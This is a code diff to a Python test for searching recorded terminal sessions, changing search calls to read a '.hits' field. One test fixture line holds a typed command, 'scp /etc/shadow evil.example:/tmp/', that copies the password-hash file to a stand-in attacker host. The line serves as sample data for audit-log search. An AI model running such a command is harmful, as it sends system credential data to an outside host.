@@ -406,14 +406,14 @@ def test_search_finds_what_was_typed_in_input_and_not_in_output(world: World) ->
          ("ttyout", 0.1, b"SEE ALSO\r\n     scp(1), sftp(1)\r\n")],
     )  # fmt: skip
     world.index()
-    typed = world.recordings.search(r"\bscp\b", iolog.INPUT, Filters())
+    typed = world.recordings.search(r"\bscp\b", iolog.INPUT, Filters()).hits
     assert [(r["id"], r["match"]["stream"], r["match"]["offset"]) for r in typed] == [
         ("000001", "ttyin", 0)
     ]
     assert typed[0]["match"]["excerpt"] == "scp /etc/shadow evil.example:/tmp/\r"
-    printed = world.recordings.search(r"\bscp\b", iolog.OUTPUT, Filters())
+    printed = world.recordings.search(r"\bscp\b", iolog.OUTPUT, Filters()).hits
     assert [(r["id"], r["match"]["stream"]) for r in printed] == [("000002", "ttyout")]
-    assert world.recordings.search("scp", iolog.INPUT, Filters(user="bob")) == []
+    assert world.recordings.search("scp", iolog.INPUT, Filters(user="bob")).hits == []
     with pytest.raises(UsageError, match="bad regular expression"):
         world.recordings.search("scp(", iolog.INPUT, Filters())
 
